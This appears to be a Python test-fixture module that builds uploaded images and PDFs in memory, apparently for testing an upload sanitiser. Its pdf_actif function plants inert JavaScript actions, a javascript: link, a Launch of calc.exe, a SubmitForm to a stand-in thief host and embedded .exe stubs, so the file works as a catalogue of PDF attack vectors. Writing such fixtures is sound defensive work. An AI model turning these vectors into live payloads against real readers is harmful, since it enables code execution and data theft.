"""Files that people send, good and bad, made in memory."""

from io import BytesIO

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Dictionary as D
from pikepdf import Name as N
from PIL import Image


def image(nom="photo.jpg", *, genre="JPEG", taille=(200, 120), suite=b"", **options):
    """Give a picture; ``suite`` is what hides behind its end."""
    sortie = BytesIO()
    Image.new("RGB", taille, "teal").save(sortie, genre, **options)
    return SimpleUploadedFile(nom, sortie.getvalue() + suite)


def image_localisee():
    """Give a photo that says where it was taken, and with what."""
    exif = Image.Exif()
    exif[0x010F] = "Appareil de la maison"
    exif[0x8825] = {1: "N", 2: (47.0, 19.0, 0.0)}
    return image(exif=exif)


def pdf(nom="attestation.pdf", *, mot_de_passe="", proprietaire="", pages=1):
    """Give a PDF; ``mot_de_passe`` is asked to open it, ``proprietaire`` only to change it."""
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(595, 842))
    chiffre = pikepdf.Encryption(owner=proprietaire or mot_de_passe, user=mot_de_passe)
    return _fichier(document, nom, encryption=chiffre if mot_de_passe or proprietaire else False)


def _fichier(document, nom, **options):
    sortie = BytesIO()
    document.save(sortie, **options)
    return SimpleUploadedFile(nom, sortie.getvalue())


def deplier(contenu: bytes) -> bytes:
    """Give a PDF with nothing compressed in it: what it holds can be searched."""
    sortie = BytesIO()
    with pikepdf.open(BytesIO(contenu)) as document:
        document.save(
            sortie, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
        )  # fmt: skip
    return sortie.getvalue()


def _script(ou):
    return D(S=N.JavaScript, JS=f"app.alert {ou}")


def pdf_actif(nom="actif.pdf"):
    """Give a PDF of one written page, where something acts from every place that one may hang from."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    page = document.pages[0].obj
    police = D(Type=N.Font, Subtype=N.Type1, BaseFont=N.Helvetica)
    # The names of what a page uses are free: these look like actions, and are seen.
    page.Resources = D(Font=D(F1=police, AA=police, JS=police))
    page.Contents = document.make_stream(
        b"BT /F1 20 Tf 50 700 Td (Bonjour) Tj ET BT /AA 20 Tf 50 600 Td (Police nommee AA) Tj ET"
    )
    vue = document.make_stream(b"BT /F1 12 Tf 2 2 Td (Rempli a la main) Tj ET")
    vue.Type, vue.Subtype, vue.BBox, vue.Resources = N.XObject, N.Form, [0, 0, 200, 20], D(Font=D(F1=police))

    def note(genre, **cles):
        return document.make_indirect(D(Type=N.Annot, Subtype=genre, Rect=[50, 500, 250, 520], **cles))

    saisie = note(N.Widget, FT=N.Tx, T="nom", V="Rempli a la main", F=4, AP=D(N=vue), AA=D(K=_script("champ")), P=page)
    enchainee = D(S=N.GoTo, D=[page, N.Fit], Next=[D(S=N.Launch, F="calc.exe")])
    page.Annots = pikepdf.Array([
        saisie,
        note(N.Link, A=D(S=N.URI, URI="https://donges.example/")),
        note(N.Link, A=D(S=N.URI, URI="javascript:alert(1)")),
        note(N.Link, A=enchainee),
        note(N.Link, PA=D(S=N.SubmitForm, F="https://voleur.example/")),
        note(N.Screen, A=D(S=N.Rendition, JS="app.alert film")),
        note(N.FileAttachment, FS=D(Type=N.Filespec, F="note.exe", EF=D(F=document.make_stream(b"MZ note")))),
    ])  # fmt: skip
    page.AA = D(O=_script("page"))
    racine = document.Root
    racine.OpenAction, racine.AA = _script("ouverture"), D(WC=_script("fermeture"))
    racine.Names = D(JavaScript=D(Names=["a", _script("noms")]), Dests=D(Names=["ici", [page, N.Fit]]))
    racine.AcroForm = D(Fields=[saisie], CO=[saisie], XFA="app.alert xfa")
    racine.Pages.AA, racine.PieceInfo = D(O=_script("arbre")), D(Nous=D(Private=_script("a part")))
    signet = document.make_indirect(D(Title="Un", A=_script("signet"), AA=D(X=_script("signet2"))))
    racine.Outlines = document.make_indirect(D(Type=N.Outlines, First=signet, Last=signet, Count=1))
    signet.Parent = racine.Outlines
    document.attachments["virus.exe"] = b"MZ virus"
    return _fichier(document, nom)
